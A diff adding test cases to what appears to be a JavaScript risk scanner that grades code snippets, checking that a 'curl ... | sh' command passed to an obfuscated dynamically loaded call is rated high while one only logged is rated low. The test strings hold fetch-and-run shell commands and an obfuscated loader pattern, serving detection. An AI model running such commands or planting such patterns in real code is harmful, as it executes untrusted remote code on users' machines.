@@ -59,6 +59,8 @@ test('good: commands, programs and timers as others have them', () => {
   assert.equal(worst("require(\"child_process\"); log(\"$ curl -fsS https://example.org/i | sh\")"), 'low', 'a command behind a prompt');
   assert.equal(worst("const f = require(\"path\").join(require(\"os\").tmpdir(), \"package.json\"); fetch(u); require(f)"), 'nothing', 'data');
   assert.equal(worst("log(\"Install it: curl -fsS https://example.org/i | sh\")"), 'low', 'only shown');
+  assert.equal(worst("module.constructor._load(name)[deed](\"curl -fsS https://example.org/i | sh\")"), 'high', 'given to something whose name nobody sees');
+  assert.equal(worst("require(name); log(\"Install it: curl -fsS https://example.org/i | sh\")"), 'low', 'only shown');
   assert.equal(worst("import x from \"https://example.org/x.ts\"", 'deno.ts'), 'medium', 'for Deno');
 });
 
